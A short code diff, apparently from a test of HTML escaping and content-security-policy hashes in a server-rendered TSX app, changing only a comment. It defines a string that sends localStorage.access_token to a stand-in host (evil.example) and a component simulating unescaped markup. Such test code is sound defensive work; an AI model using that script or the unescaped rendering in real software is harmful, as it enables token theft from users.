@@ -8,7 +8,7 @@ import handleRequest from './entry.server.tsx'
 const STOLEN = 'fetch("https://evil.example/" + localStorage.access_token)'
 const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
 
-/** What a hole in the escaping would do: markup from a catalogue stands in the page as it is. */
+/** What a missing escape would do: markup from a catalogue stands in the page unchanged. */
 function Holed() {
   return (
     <html lang="id">
